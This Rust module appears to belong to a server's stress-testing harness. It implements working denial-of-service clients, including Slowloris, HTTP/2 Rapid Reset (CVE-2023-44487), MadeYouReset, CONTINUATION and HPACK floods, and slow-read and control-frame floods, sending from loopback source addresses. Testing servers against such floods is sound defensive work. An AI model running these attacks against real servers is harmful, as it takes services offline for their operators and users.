//! Clients of bad faith, cheap to run: what a connection costs them is a few bytes and a timer.

use std::{
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering::Relaxed},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream, tcp::OwnedWriteHalf},
    time::{MissedTickBehavior, interval, sleep, timeout},
};

use super::frames::{self as f, put};

/// What is done on each connection. One that is closed is opened again.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Attack {
    /// A head, one byte every three seconds.
    Slowloris,
    /// One request, then silence.
    Idle,
    /// Connections that are closed at once.
    Connect,
    /// A ClientHello, and gone with the answer.
    Handshake,
    /// HTTP/2 from here on. Streams opened and cancelled (CVE-2023-44487).
    Reset,
    /// Streams misused so that the server cancels them (CVE-2025-8671).
    MadeYouReset,
    /// A header block without an end (CVE-2024-27316).
    Continuation,
    Settings,
    Ping,
    WindowUpdate,
    Priority,
    EmptyData,
    /// A body, one byte a frame.
    SmallData,
    /// Requests of a thousand references to one large header.
    Hpack,
    /// A hundred requests with a window of 0: no answer can be sent.
    SlowRead,
}

/// One attack, and how much of it.
#[derive(Clone, Debug)]
pub struct Plan {
    pub attack: Attack,
    pub target: SocketAddr,
    pub connections: usize,
    /// Frames a second on each connection; of `Connect` and `Handshake`, connections.
    pub rate: u32,
    /// What a `Handshake` begins with.
    pub hello: Arc<[u8]>,
}

/// What was sent so far.
#[derive(Debug, Default)]
pub struct Count {
    pub opened: AtomicUsize,
    /// Connections that stand: what they are for has begun.
    pub standing: AtomicUsize,
    pub frames: AtomicUsize,
    /// Connections that could not be made.
    pub failed: AtomicUsize,
}

/// Time between the bytes of a head that is dripped.
const DRIP: Duration = Duration::from_secs(3);

/// Time between the bursts of a flood.
const TICK: Duration = Duration::from_millis(20);

/// Time between a connection's end and the next: an attacker has others to look after.
const REOPEN: Duration = Duration::from_millis(20);

/// How long the first connections take to be made: they are spread over it.
const RAMP: Duration = Duration::from_secs(3);

const PATIENCE: Duration = Duration::from_secs(10);

/// A source address, and a port, for every so many connections.
const PER_SOURCE: usize = 4000;

/// Attacks until it is dropped.
pub async fn run(plan: Plan, sent: Arc<Count>) {
    let plan = Arc::new(plan);
    let mut tasks = tokio::task::JoinSet::new();
    for number in 0..plan.connections {
        tasks.spawn(again(number, plan.clone(), sent.clone()));
    }
    while tasks.join_next().await.is_some() {}
}

async fn again(number: usize, plan: Arc<Plan>, sent: Arc<Count>) {
    sleep(RAMP.mul_f64(number as f64 / plan.connections as f64)).await;
    loop {
        match timeout(PATIENCE, connect(number, plan.target)).await {
            Ok(Ok(stream)) => {
                sent.opened.fetch_add(1, Relaxed);
                let _ = once(stream, number, &plan, &sent).await;
            }
            _ => _ = sent.failed.fetch_add(1, Relaxed),
        }
        sleep(REOPEN).await;
    }
}

/// From 127.0.0.2 and on, so that the ports of one address need not do for all.
async fn connect(number: usize, target: SocketAddr) -> io::Result<TcpStream> {
    let source = Ipv4Addr::new(127, 0, 0, u8::try_from(2 + number / PER_SOURCE).unwrap_or(u8::MAX));
    let socket = TcpSocket::new_v4()?;
    socket.bind((IpAddr::V4(source), 0).into())?;
    socket.connect(target).await
}

/// The life of one connection.
async fn once(mut stream: TcpStream, number: usize, plan: &Plan, sent: &Count) -> io::Result<()> {
    stream.set_nodelay(true)?;
    if plan.attack == Attack::Idle {
        ask(&mut stream, number).await?;
    }
    let _standing = Standing::new(sent);
    match plan.attack {
        Attack::Slowloris => drip(stream, sent).await,
        Attack::Idle => stream.read(&mut [0; 1]).await.map(drop),
        Attack::Connect => pause(plan).await,
        Attack::Handshake => {
            stream.write_all(&plan.hello).await?;
            let 1.. = stream.read(&mut [0; 4096]).await? else { return Ok(()) };
            pause(plan).await
        }
        _ => flood(stream, plan, sent).await,
    }
}

async fn pause(plan: &Plan) -> io::Result<()> {
    sleep(Duration::from_secs(1) / plan.rate.max(1)).await;
    Ok(())
}

async fn drip(mut stream: TcpStream, sent: &Count) -> io::Result<()> {
    stream.write_all(b"GET / HTTP/1.1\r\nHost: a.example\r\nX-A: ").await?;
    let mut answer = [0; 1024];
    loop {
        match timeout(DRIP, stream.read(&mut answer)).await {
            Err(_) => stream.write_all(b"b").await?,
            Ok(Ok(1..)) => {}
            Ok(ended) => return ended.map(drop),
        }
        sent.frames.fetch_add(1, Relaxed);
    }
}

/// Asks for the shortest answer, which comes in one piece.
async fn ask(stream: &mut TcpStream, number: usize) -> io::Result<usize> {
    let head = format!("GET /small?{number} HTTP/1.1\r\nHost: a.example\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    stream.read(&mut [0; 4096]).await
}

/// Sends bursts of frames, and reads what comes, until one of both ends.
async fn flood(stream: TcpStream, plan: &Plan, sent: &Count) -> io::Result<()> {
    let (mut read, mut write) = stream.into_split();
    let mut answer = [0; 16 << 10];
    tokio::select! {
        ended = bursts(&mut write, plan, sent) => ended,
        ended = async { while read.read(&mut answer).await? > 0 {} Ok(()) } => ended,
    }
}

async fn bursts(write: &mut OwnedWriteHalf, plan: &Plan, sent: &Count) -> io::Result<()> {
    let mut flood = Flood::new(plan.attack);
    write.write_all(&flood.begin()).await?;
    let each = (plan.rate as usize / 50).max(1);
    let mut ticks = interval(TICK.max(Duration::from_secs(1) / plan.rate.max(1)));
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut out = Vec::new();
    loop {
        ticks.tick().await;
        out.clear();
        (0..each).for_each(|_| flood.next(&mut out));
        if out.is_empty() {
            // All is sent, and the connection is held.
            return std::future::pending().await;
        }
        write.write_all(&out).await?;
        sent.frames.fetch_add(each, Relaxed);
    }
}

/// What one connection of a flood sends.
#[derive(Debug)]
struct Flood {
    attack: Attack,
    /// The stream that is opened next.
    stream: u32,
    sent: u32,
}

/// Streams of a slow reader.
const SLOW_READS: u32 = 100;

/// Frames of a body of single bytes: less than the window at the start.
const SMALL_DATA: u32 = 20_000;

impl Flood {
    const fn new(attack: Attack) -> Self {
        Self { attack, stream: 1, sent: 0 }
    }

    fn begin(&mut self) -> Vec<u8> {
        let mut out = f::PREFACE.to_vec();
        match self.attack {
            Attack::Continuation => put(&mut out, f::HEADERS, 0, 1, &f::block(f::GET, "/small")),
            Attack::EmptyData | Attack::SmallData => self.post(&mut out),
            Attack::Hpack => {
                let block = [f::block(f::GET, "/small"), f::large_entry()].concat();
                put(&mut out, f::HEADERS, f::END_HEADERS | f::END_STREAM, self.open(), &block);
            }
            Attack::SlowRead => {
                // SETTINGS_INITIAL_WINDOW_SIZE: 0.
                put(&mut out, f::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
            }
            _ => {}
        }
        out
    }

    fn open(&mut self) -> u32 {
        self.stream += 2;
        self.stream - 2
    }

    fn get(&mut self, out: &mut Vec<u8>, path: &str) -> u32 {
        let stream = self.open();
        put(out, f::HEADERS, f::END_HEADERS | f::END_STREAM, stream, &f::block(f::GET, path));
        stream
    }

    fn post(&mut self, out: &mut Vec<u8>) {
        let stream = self.open();
        put(out, f::HEADERS, f::END_HEADERS, stream, &f::block(f::POST, "/small"));
    }

    /// The stream that was opened last.
    const fn last(&self) -> u32 {
        self.stream - 2
    }

    /// The next frame of the flood, with what it needs before it. Nothing: all is sent.
    fn next(&mut self, out: &mut Vec<u8>) {
        self.sent += 1;
        match self.attack {
            Attack::Reset => {
                let stream = self.get(out, "/small");
                put(out, f::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Attack::MadeYouReset => {
                let stream = self.get(out, "/small");
                put(out, f::WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Attack::Continuation => put(out, f::CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']),
            Attack::Settings => put(out, f::SETTINGS, 0, 0, &[0, 2, 0, 0, 0, 0]),
            Attack::Ping => put(out, f::PING, 0, 0, &[7; 8]),
            Attack::WindowUpdate => put(out, f::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Attack::Priority => put(out, f::PRIORITY, 0, self.sent * 2 + 1, &[0, 0, 0, 0, 15]),
            Attack::EmptyData => put(out, f::DATA, 0, self.last(), &[]),
            Attack::SmallData => {
                if self.sent.is_multiple_of(SMALL_DATA) {
                    put(out, f::DATA, f::END_STREAM, self.last(), &[]);
                    self.post(out);
                }
                put(out, f::DATA, 0, self.last(), b"x");
            }
            Attack::Hpack => {
                let block = [f::block(f::GET, "/small"), vec![f::NEWEST; 1000]].concat();
                put(out, f::HEADERS, f::END_HEADERS | f::END_STREAM, self.open(), &block);
            }
            Attack::SlowRead if self.sent <= SLOW_READS => _ = self.get(out, "/large"),
            _ => {}
        }
    }
}

/// A connection that stands, until it is dropped.
struct Standing<'a>(&'a Count);

impl<'a> Standing<'a> {
    fn new(sent: &'a Count) -> Self {
        sent.standing.fetch_add(1, Relaxed);
        Self(sent)
    }
}

impl Drop for Standing<'_> {
    fn drop(&mut self) {
        self.0.standing.fetch_sub(1, Relaxed);
    }
}
